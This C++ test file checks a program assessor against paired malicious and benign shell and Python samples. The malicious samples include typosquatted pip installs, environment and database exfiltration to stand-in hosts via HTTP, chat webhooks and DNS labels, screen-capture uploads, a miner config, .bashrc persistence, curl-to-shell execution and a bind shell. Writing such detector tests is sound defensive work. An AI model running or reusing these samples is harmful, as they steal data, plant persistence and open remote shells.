// The classes the thirty-first session modelled (issue 14), from the tune
// parts of the hundred-and-fifty-fifth round onwards
// (tests/corpus/prog159_MANIFEST.tsv and later): programs written from the
// rubric alone by writers who never saw the assessor. Strings here are never
// executed.

#include "test_util.hpp"

namespace mai::assess::test {
namespace {

constexpr Language Sh = Language::shell;

// A package list printed by functions that run straight through (one echo a
// package, one calling the others), joined with `tr '\n' ' '` and installed:
// a call had printed only its last line, tr had read '\n' as the letters
// '\' and 'n', and an unquoted $(...) had split only at blanks, so the
// typosquat in the middle of the list was never named. Twins: the genuine
// package in the same shape, and a function with an early return, which
// still prints its likely first candidate only.
TEST(HundredAndFiftyFifthRoundClasses, StraightLineFunctionsPrintEveryLine) {
  const Case cases[] = {
      {"a typosquat among the lines of straight-line functions", B, R"sh(#!/bin/sh
base_packages() {
    echo "pyserial"
    echo "requests"
}
console_packages() {
    prefix="colour"
    echo "${prefix}ama"
    echo "tabulate"
}
all_packages() {
    base_packages
    console_packages
}
pkgs=$(all_packages | tr '\n' ' ')
python3 -m pip install $pkgs
)sh",
       "KNOWN-MALICIOUS-PACKAGE", Sh},
      {"the genuine package in the same shape", M, R"sh(#!/bin/sh
base_packages() {
    echo "pyserial"
    echo "requests"
}
console_packages() {
    echo "colorama"
    echo "tabulate"
}
all_packages() {
    base_packages
    console_packages
}
pkgs=$(all_packages | tr '\n' ' ')
python3 -m pip install $pkgs
)sh",
       "INSTALLS-PACKAGES", Sh},
      {"an unquoted list of lines split into one package a line", B, R"sh(#!/bin/sh
pkgs="$(printf '%s\n' requests colourama)"
pip install $pkgs
)sh",
       "KNOWN-MALICIOUS-PACKAGE", Sh},
      {"two commands in one substitution print both lines", B, R"sh(#!/bin/sh
pkgs="$(echo colourama; echo requests)"
pip install $pkgs
)sh",
       "KNOWN-MALICIOUS-PACKAGE", Sh},
      {"a function that returns at its first hit prints that one", M, R"sh(#!/bin/bash
pick_tool() {
    for t in requests colourama; do
        if [ -n "$t" ]; then echo "$t"; return; fi
    done
}
pip install "$(pick_tool)"
)sh",
       "INSTALLS-PACKAGES", Sh},
  };
  for (const auto& c : cases) check(c);
}

// tr's sets are read as tr reads them: escapes (\n, \r, \012), classes
// ([:upper:]) and ranges; `tr -d SET` deletes. Twins: the same pipelines on
// a genuine name.
TEST(HundredAndFiftyFifthRoundClasses, TrSetsReadTheirEscapesAndClasses) {
  const Case cases[] = {
      {"blanks deleted with tr -d '[:space:]'", B, R"sh(#!/bin/sh
name=$(echo "colour ama" | tr -d '[:space:]')
pip install "$name"
)sh",
       "KNOWN-MALICIOUS-PACKAGE", Sh},
      {"carriage returns deleted with tr -d '\\r'", B, R"sh(#!/bin/sh
name=$(printf 'colourama\r\n' | tr -d '\r\n')
pip install "$name"
)sh",
       "KNOWN-MALICIOUS-PACKAGE", Sh},
      {"an octal newline turned into a blank", B, R"sh(#!/bin/sh
list=$(printf 'requests\ncolourama\n' | tr '\012' ' ')
pip install $list
)sh",
       "KNOWN-MALICIOUS-PACKAGE", Sh},
      {"the genuine name lowered", M, R"sh(#!/bin/sh
name=$(echo "COLORAMA" | tr '[:upper:]' '[:lower:]')
pip install "$name"
)sh",
       "INSTALLS-PACKAGES", Sh},
  };
  for (const auto& c : cases) check(c);
}

// A variable named by a configuration entry (key_env) in a file whose path
// an environment variable gives (SUPPLIER_CONFIG): the name's labels hold
// "environment variables", which had been read as "a name taken from the
// environment itself" (a loop over os.environ), so the one API key going to
// its own supplier's URL was the whole environment sent out. Only a name
// taken from os.environ (its keys, a loop over it) stands for all of them
// now. Twins: a loop over os.environ sent out, and the named variable sent
// to a fixed third party.
TEST(HundredAndFiftyFifthRoundClasses, AConfiguredVariableNameIsOneVariable) {
  const Case cases[] = {
      {"a configured key to its own supplier's API", L,
       "import os, requests, yaml\n"
       "cfg = yaml.safe_load(open(os.environ.get('SUPPLIER_CONFIG', 'suppliers.yaml')))\n"
       "for supplier in cfg['suppliers']:\n"
       "    s = requests.Session()\n"
       "    key_var = supplier.get('key_env')\n"
       "    if key_var and os.environ.get(key_var):\n"
       "        s.headers['Authorization'] = 'Bearer ' + os.environ[key_var]\n"
       "    print(s.get(supplier['base_url'] + '/prices', timeout=30).json())\n"},
      {"every variable of a loop over os.environ sent out", B,
       "import os, requests\n"
       "for name in sorted(os.environ):\n"
       "    value = os.environ.get(name)\n"
       "    requests.get('https://collect.example.net/e', params={'n': name, 'v': value})\n",
       "EXFILTRATION"},
      {"the configured variable sent to a fixed third party", B,
       "import os, requests, yaml\n"
       "cfg = yaml.safe_load(open(os.environ.get('CFG', 'suppliers.yaml')))\n"
       "for supplier in cfg['suppliers']:\n"
       "    token = os.environ[supplier.get('key_env')]\n"
       "    requests.post('https://collect.example.net/k', data={'t': token}, timeout=5)\n",
       "EXFILTRATION"},
  };
  for (const auto& c : cases) check(c);
}

// Pins of the dependency groups a loop variable picks (groups from an
// option whose default is a list): `pins` is one of several dicts, and
// `sorted(pins.items())` in a generator had merged their pairs, every name
// crossed with every version, until the combinations ran out of room and the
// typosquat among them was lost. sorted/list/tuple/set of one of a few known
// collections now copy each, and a comprehension over one of a few known
// lists takes each element whole. Twin: the genuine names.
TEST(HundredAndFiftyFifthRoundClasses, PairsOfOneOfSeveralDictsStayWhole) {
  const char* program =
      "import argparse, subprocess\n"
      "GROUPS = {\n"
      "    'core': {'req' + 'eusts': '2.31.0', 'openpyxl': '3.1.2', 'python-dateutil': '2.8.2'},\n"
      "    'cli': {'click': '8.1.7', 'tabulate': '0.9.0', 'rich': '13.7.0'},\n"
      "}\n"
      "def selected_specs(groups):\n"
      "    specs = []\n"
      "    for group in groups:\n"
      "        pins = GROUPS.get(group)\n"
      "        if pins is None:\n"
      "            raise SystemExit(group)\n"
      "        specs.extend(f'{name}=={version}' for name, version in sorted(pins.items()))\n"
      "    return specs\n"
      "parser = argparse.ArgumentParser()\n"
      "parser.add_argument('--groups', nargs='+', default=['core', 'cli'])\n"
      "parser.add_argument('--index-url')\n"
      "args = parser.parse_args()\n"
      "cmd = ['python3', '-m', 'pip', 'install']\n"
      "if args.index_url:\n"
      "    cmd += ['--index-url', args.index_url]\n"
      "subprocess.run(cmd + selected_specs(args.groups), check=True)\n";
  check_with_genuine_twin("a typosquat among the pins of a group an option picks", program, "'req' + 'eusts'",
                          "'requests'");
}

// A database's tables gzipped, base64-encoded and posted in chunks as chat
// messages to a webhook on a host no list names (hooks.<vendor>/services/
// T.../B.../...): nobody reads base64 in a channel. A chat webhook is now
// known by its URL's shape as well as by its vendor's host. Twins: counts
// from the same tables posted to the same webhook, and a file's base64 in an
// ordinary API's documented field.
TEST(HundredAndFiftyFifthRoundClasses, EncodedFileContentsInChatMessagesAreSmuggled) {
  const Case cases[] = {
      {"a database's rows gzipped and base64-encoded into chat messages", B,
       "import base64, gzip, json, sqlite3, requests\n"
       "rows = [dict(r) for r in sqlite3.connect('erp.sqlite3').execute('SELECT * FROM customers')]\n"
       "blob = base64.b64encode(gzip.compress(json.dumps(rows).encode())).decode()\n"
       "for i in range(0, len(blob), 1800):\n"
       "    requests.post('https://hooks.chatrelay.example/services/T07QF2/B0AA91/x9',\n"
       "                  json={'text': blob[i:i + 1800]}, timeout=20)\n",
       "COVERT-CHANNEL-EXFILTRATION"},
      {"a count from the same tables posted to the same webhook", L,
       "import sqlite3, requests\n"
       "rows = list(sqlite3.connect('erp.sqlite3').execute('SELECT status FROM quotes'))\n"
       "open_quotes = sum(1 for r in rows if r[0] == 'open')\n"
       "requests.post('https://hooks.chatrelay.example/services/T07QF2/B0AA91/x9',\n"
       "              json={'text': f'{open_quotes} open quotes'}, timeout=20)\n"},
      {"a file's base64 in an API's content field", L,
       "import base64, os, requests\n"
       "from pathlib import Path\n"
       "content = base64.b64encode(Path('docs/index.md').read_bytes()).decode()\n"
       "requests.put('https://api.github.example/repos/acme/site/contents/docs/index.md',\n"
       "             headers={'Authorization': 'token ' + os.environ['GITHUB_TOKEN']},\n"
       "             json={'message': 'update docs', 'content': content}, timeout=20)\n"},
  };
  for (const auto& c : cases) check(c);
}

// The event loop's own resolver (loop.getaddrinfo, reached by getattr) and
// dnspython's and aiodns's asynchronous ones resolve names as
// socket.getaddrinfo does: base32 of a database's rows in the labels is DNS
// exfiltration. Twin: the loop resolving a configured host.
TEST(HundredAndFiftyFifthRoundClasses, TheEventLoopsResolverLooksNamesUp) {
  const Case cases[] = {
      {"rows base32-encoded into names the event loop resolves", B,
       "import asyncio, base64\n"
       "async def beacon(path):\n"
       "    loop = asyncio.get_running_loop()\n"
       "    lookup = getattr(loop, 'getaddr' + 'info')\n"
       "    for line in open(path):\n"
       "        label = base64.b32encode(line.encode()).decode().rstrip('=').lower()[:50]\n"
       "        await lookup(label + '.t.occuview.example', 53)\n"
       "asyncio.run(beacon('permits.csv'))\n",
       "COVERT-CHANNEL-EXFILTRATION"},
      {"the event loop resolving a configured host", L,
       "import asyncio, os\n"
       "async def check():\n"
       "    loop = asyncio.get_running_loop()\n"
       "    infos = await loop.getaddrinfo(os.environ.get('DB_HOST', 'db.internal.example'), 5432)\n"
       "    print(len(infos), 'addresses')\n"
       "asyncio.run(check())\n"},
  };
  for (const auto& c : cases) check(c);
}

// asyncio.to_thread(fn, ...) and loop.run_in_executor(None, fn, ...) give
// back what fn returns (library-model.yaml's `returns: callback`): a screen
// grabbed in a worker thread and posted had been lost at the hand-back.
// Twin: a file's checksum computed in a thread and posted to the project's
// own API.
TEST(HundredAndFiftyFifthRoundClasses, AThreadsResultComesBack) {
  const Case cases[] = {
      {"a screen grabbed in a thread and uploaded", B,
       "import asyncio, httpx, mss\n"
       "def grab():\n"
       "    with mss.mss() as sct:\n"
       "        return sct.grab(sct.monitors[0]).rgb\n"
       "async def main():\n"
       "    frame = await asyncio.to_thread(grab)\n"
       "    async with httpx.AsyncClient() as client:\n"
       "        await client.post('https://frames.opsrelay.example/f', files={'file': ('a.jpg', frame)})\n"
       "asyncio.run(main())\n",
       "EXFILTRATION"},
      {"the same through run_in_executor", B,
       "import asyncio, httpx, mss\n"
       "def grab(scale):\n"
       "    with mss.mss() as sct:\n"
       "        return sct.grab(sct.monitors[0]).rgb\n"
       "async def main():\n"
       "    frame = await asyncio.get_running_loop().run_in_executor(None, grab, 0.5)\n"
       "    httpx.post('https://frames.opsrelay.example/f', content=frame)\n"
       "asyncio.run(main())\n",
       "EXFILTRATION"},
      {"a checksum computed in a thread and posted to its own API", L,
       "import asyncio, hashlib, httpx\n"
       "def digest(path):\n"
       "    return hashlib.sha256(open(path, 'rb').read()).hexdigest()\n"
       "async def main():\n"
       "    d = await asyncio.to_thread(digest, 'build/app.tar.gz')\n"
       "    httpx.post('https://releases.example.com/api/checksums', json={'sha256': d})\n"
       "asyncio.run(main())\n"},
  };
  for (const auto& c : cases) check(c);
}

// "${as_root[@]}" "$@" with as_root=() (the script already runs as root) is
// no word at all, quoted as it is: the command is the next word (tee), not an
// empty name. Twin: the same helper writing a file of the working tree.
TEST(HundredAndFiftyFifthRoundClasses, AnEmptyArraysItemsAreNoWord) {
  const Case cases[] = {
      {"a udev rule written through an empty sudo prefix", H, R"sh(#!/bin/bash
as_root=( sudo )
[ "$(id -u)" -eq 0 ] && as_root=()
priv() { "${as_root[@]}" "$@"; }
printf '%s\n' 'SUBSYSTEM=="tty", MODE="0660"' | priv tee /etc/udev/rules.d/99-scale.rules >/dev/null
)sh",
       "SYSTEM-MODIFICATION", Sh},
      {"the same helper writing a file of the working tree", L, R"sh(#!/bin/bash
as_root=()
priv() { "${as_root[@]}" "$@"; }
printf '%s\n' 'SUBSYSTEM=="tty", MODE="0660"' | priv tee ./99-scale.rules >/dev/null
)sh",
       nullptr, Sh},
  };
  for (const auto& c : cases) check(c);
}

// dataclasses.asdict turns the dataclass instances inside a field (a list of
// Endpoint) into dicts, and json.dumps of one of several strings writes what
// they share ("stratum+tcp://…"): a miner's pool list written to its config
// file had been "…". Twin: the same shape listing HTTPS mirrors.
TEST(HundredAndFiftyFifthRoundClasses, NestedDataclassesBecomeTheirFields) {
  const char* program =
      "import json\n"
      "from dataclasses import dataclass, field, asdict\n"
      "@dataclass\n"
      "class Endpoint:\n"
      "    url: str\n"
      "    user: str\n"
      "@dataclass\n"
      "class Config:\n"
      "    pools: list = field(default_factory=list)\n"
      "scheme = 'stratum' + '+tcp://'\n"
      "cfg = Config(pools=[Endpoint(url=scheme + h, user='w1') for h in ['pool.hashharbor.example:3333', '203.0.113.90:5555']])\n"
      "with open('engine.json', 'w') as fh:\n"
      "    fh.write(json.dumps(asdict(cfg)))\n";
  std::string mirrors = program;
  mirrors.replace(mirrors.find("'stratum' + '+tcp://'"), 21, "'https://'");
  const Case cases[] = {
      {"a miner's pools written to its config through asdict", B, program, "CRYPTO-MINER"},
      {"the same shape listing HTTPS mirrors", L, mirrors.c_str()},
  };
  for (const auto& c : cases) check(c);
}

// A callback that is an instance of a class with __call__ (a Resolver object
// given to run_in_executor) runs that method: hex of a CSV's rows in names
// it resolves is DNS exfiltration. Twin: the same resolver timing a fixed
// list of host names.
TEST(HundredAndFiftyFifthRoundClasses, ACallableInstanceIsCalledThroughCall) {
  const char* program =
      "import asyncio, binascii, socket\n"
      "class Resolver:\n"
      "    def __init__(self):\n"
      "        self._fn = getattr(socket, 'gethost' + 'byname')\n"
      "    def __call__(self, name):\n"
      "        try:\n"
      "            self._fn(name)\n"
      "        except OSError:\n"
      "            pass\n"
      "def names():\n"
      "    for line in open('contracts.csv'):\n"
      "        yield binascii.hexlify(line.encode()).decode()[:60] + '.t.hopmetrics.example'\n"
      "async def main():\n"
      "    loop = asyncio.get_running_loop()\n"
      "    for n in names():\n"
      "        await loop.run_in_executor(None, Resolver(), n)\n"
      "asyncio.run(main())\n";
  std::string fixed = program;
  fixed.replace(fixed.find("    for line in open('contracts.csv'):\n"), 125,
                "    for host in ('db.hopyard.example', 'mq.hopyard.example'):\n        yield host\n");
  const Case cases[] = {
      {"a CSV's rows hex-encoded into names a callable object resolves", B, program, "COVERT-CHANNEL-EXFILTRATION"},
      {"the same resolver timing fixed host names", L, fixed.c_str()},
  };
  for (const auto& c : cases) check(c);
}

// field(default_factory=Path.home): a library function as the factory makes
// what it returns (the home directory), as the code's own factories did: a
// launcher appended to ~/.bashrc through cfg.home is persistence. Twin: a log
// file under the same home.
TEST(HundredAndFiftyFifthRoundClasses, ALibraryDefaultFactoryMakesItsValue) {
  const Case cases[] = {
      {"a launcher appended to the rc file under a factory-made home", B,
       "from dataclasses import dataclass, field\n"
       "from pathlib import Path\n"
       "@dataclass\n"
       "class Config:\n"
       "    home: Path = field(default_factory=Path.home)\n"
       "cfg = Config()\n"
       "with (cfg.home / ('.bash' 'rc')).open('a') as fh:\n"
       "    fh.write('\\n(pgrep -f agent.py || nohup python3 ~/.trellis/agent.py &)\\n')\n",
       "PERSISTENCE"},
      {"a log line under the same home", L,
       "from dataclasses import dataclass, field\n"
       "from pathlib import Path\n"
       "@dataclass\n"
       "class Config:\n"
       "    home: Path = field(default_factory=Path.home)\n"
       "cfg = Config()\n"
       "(cfg.home / '.trellis').mkdir(exist_ok=True)\n"
       "with (cfg.home / '.trellis' / 'agent.log').open('a') as fh:\n"
       "    fh.write('bootstrap done\\n')\n"},
  };
  for (const auto& c : cases) check(c);
}

// Known lines through `sort -u` (and uniq, tac) stay known, reordered; and an
// if prints what its branch prints: package lists from functions a table
// names, in a loop whose body checks the group first. Twins: the genuine
// names in the same shape.
TEST(HundredAndFiftyFifthRoundClasses, SortedLinesAndIfBranchesKeepTheirText) {
  const char* program = R"sh(#!/bin/bash
core_pkgs() { printf '%s\n' flask "re""qeusts" jinja2; }
report_pkgs() { printf '%s\n' reportlab tabulate; }
declare -A GROUPS_FN=( [core]=core_pkgs [reports]=report_pkgs )
collect() {
    local g
    for g in "$@"; do
        if [ -n "${GROUPS_FN[$g]:-}" ]; then
            "${GROUPS_FN[$g]}"
        else
            echo "unknown group $g" >&2
        fi
    done | sort -u
}
install_list() {
    local -a pkgs=()
    local p
    while IFS= read -r p; do
        [ -n "$p" ] && pkgs+=("$p")
    done
    python3 -m pip install --quiet "${pkgs[@]}"
}
collect core reports | install_list
)sh";
  check_with_genuine_twin("a typosquat in sorted lines of functions an if calls", program, "\"re\"\"qeusts\"",
                          "requests", Sh);
}

// A function run as a pipeline's last stage (`... | apply_step`) that picks
// its shell with $(pick_runner): the likely line printed inside that $(...)
// had been ignored because the function ran in a pipeline. Twin: the same
// runner given a script shipped with the program.
TEST(HundredAndFiftyFifthRoundClasses, ASubstitutionInsideAPipelineStageHasItsLikelyLine) {
  const char* program = R"sh(#!/bin/bash
pick_runner() {
    local r
    for r in bash sh dash; do
        if command -v "$r" >/dev/null 2>&1; then
            printf '%s' "$r"
            return 0
        fi
    done
    return 1
}
apply_step() {
    local runner
    runner=$(pick_runner) || { echo "no shell" >&2; return 1; }
    "$runner" -s -- site
}
body=$(curl -fsSL https://updates.ridecount.example/plugins/counter.sh)
printf '%s\n' "$body" | apply_step
)sh";
  std::string shipped = program;
  shipped.replace(shipped.find("body=$(curl -fsSL https://updates.ridecount.example/plugins/counter.sh)"), 71,
                  "body=$(cat ./plugins/counter.sh)");
  const Case cases[] = {
      {"a download piped to a function that picks its shell", B, program, "REMOTE-CODE-EXECUTION", Sh},
      {"a shipped script piped to the same function", L, shipped.c_str(), nullptr, Sh},
  };
  for (const auto& c : cases) check(c);
}

// `while IFS= read -r line; do ... printf ...; done <<<"$LIST"` prints every
// line's output in turn (as a for loop does), not nothing: a typosquat in
// the third line of a here-document list is installed. Twin: the genuine
// names.
TEST(HundredAndFiftyFifthRoundClasses, AWhileReadLoopPrintsEachPass) {
  const char* program = R"sh(#!/bin/bash
read -r -d '' REQUIREMENTS <<'REQ' || true
python-barcode|tags
Pillow|labels
colourama|colours
REQ
package_names() {
    local line
    while IFS= read -r line; do
        [ -z "$line" ] && continue
        printf '%s\n' "${line%%|*}"
    done <<<"$REQUIREMENTS"
}
mapfile -t pkgs < <(package_names)
python3 -m pip install "${pkgs[@]}"
)sh";
  check_with_genuine_twin("a typosquat in the third line of a read loop's list", program, "colourama|", "colorama|",
                          Sh);
}

// functools.partial(session, start, cfg) given to asyncio.start_server is
// session(start, cfg, reader, writer): several bound arguments come before
// the call's own (the partial had been the bare function, so reader and
// writer landed in start and cfg). A shell whose pipes a connection's reader
// and writer feed is a bind shell. Twin: the same server running a fixed
// status command whose output it writes back.
TEST(HundredAndFiftyFifthRoundClasses, APartialWithSeveralBoundArgumentsKeepsTheirPlaces) {
  const char* program =
      "import asyncio\n"
      "from functools import partial\n"
      "async def pump_in(reader, proc):\n"
      "    while True:\n"
      "        chunk = await reader.read(1024)\n"
      "        if not chunk:\n"
      "            break\n"
      "        proc.stdin.write(chunk)\n"
      "async def pump_out(proc, writer):\n"
      "    while True:\n"
      "        chunk = await proc.stdout.read(1024)\n"
      "        if not chunk:\n"
      "            break\n"
      "        writer.write(chunk)\n"
      "async def session(program, flags, reader, writer):\n"
      "    proc = await asyncio.create_subprocess_exec(program, *flags, stdin=asyncio.subprocess.PIPE,\n"
      "                                                stdout=asyncio.subprocess.PIPE)\n"
      "    await asyncio.gather(pump_in(reader, proc), pump_out(proc, writer))\n"
      "async def serve():\n"
      "    handler = partial(session, '/bin/sh', ['-i'])\n"
      "    server = await asyncio.start_server(handler, '0.0.0.0', 5150)\n"
      "    async with server:\n"
      "        await server.serve_forever()\n"
      "asyncio.run(serve())\n";
  const Case cases[] = {
      {"a shell wired to each connection through a partial", B, program, "REVERSE-SHELL"},
  };
  for (const auto& c : cases) check(c);
}

// functools.partial of a library function with bound arguments
// (partial(socket.getaddrinfo, name, 53)) runs that call with them, as a
// partial of the code's own function does: the names a ledger's rows were
// hex-encoded into are resolved. Twin: a configured host resolved the same way.
TEST(HundredAndFiftyFifthRoundClasses, APartialOfALibraryCallRunsWithItsBoundArguments) {
  const Case cases[] = {
      {"rows hex-encoded into names resolved through a partial", B,
       "import asyncio, binascii, functools, socket\n"
       "async def main():\n"
       "    loop = asyncio.get_running_loop()\n"
       "    lookup = getattr(socket, 'getaddr' + 'info')\n"
       "    for line in open('ledger.csv'):\n"
       "        name = binascii.hexlify(line.encode()).decode()[:60] + '.lookup.tallyzone.example'\n"
       "        await loop.run_in_executor(None, functools.partial(lookup, name, 53))\n"
       "asyncio.run(main())\n",
       "COVERT-CHANNEL-EXFILTRATION"},
      {"a configured host resolved through a partial", L,
       "import asyncio, functools, os, socket\n"
       "async def main():\n"
       "    loop = asyncio.get_running_loop()\n"
       "    host = os.environ.get('DB_HOST', 'db.internal.example')\n"
       "    infos = await loop.run_in_executor(None, functools.partial(socket.getaddrinfo, host, 5432))\n"
       "    print(len(infos))\n"
       "asyncio.run(main())\n"},
  };
  for (const auto& c : cases) check(c);
}

// functools.partial(UnixHTTPConnection, path): a class with bound arguments
// makes its instances with them first, so the connection's connect() reaches
// the Docker socket the path names. Twin: the same class on the program's
// own socket under its working directory.
TEST(HundredAndFiftyFifthRoundClasses, APartialOfAClassMakesInstancesWithItsBoundArguments) {
  const char* program =
      "import http.client, socket\n"
      "from functools import partial\n"
      "class UnixHTTPConnection(http.client.HTTPConnection):\n"
      "    def __init__(self, path, timeout=15):\n"
      "        super().__init__('localhost', timeout=timeout)\n"
      "        self._path = path\n"
      "    def connect(self):\n"
      "        sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)\n"
      "        sock.connect(self._path)\n"
      "        self.sock = sock\n"
      "connect = partial(UnixHTTPConnection, '/'.join(['', 'var', 'run', 'do' + 'cker.sock']))\n"
      "conn = connect()\n"
      "conn.request('POST', '/v1.43/containers/booking/restart')\n"
      "print(conn.getresponse().status)\n";
  std::string own = program;
  own.replace(own.find("'/'.join(['', 'var', 'run', 'do' + 'cker.sock'])"), 48, "'./run/booking.sock'");
  const Case cases[] = {
      {"the Docker socket reached through a partial of a connection class", H, program, "CONTAINER-ESCAPE-RISK"},
      {"the program's own socket the same way", L, own.c_str()},
  };
  for (const auto& c : cases) check(c);
}

}  // namespace
}  // namespace mai::assess::test
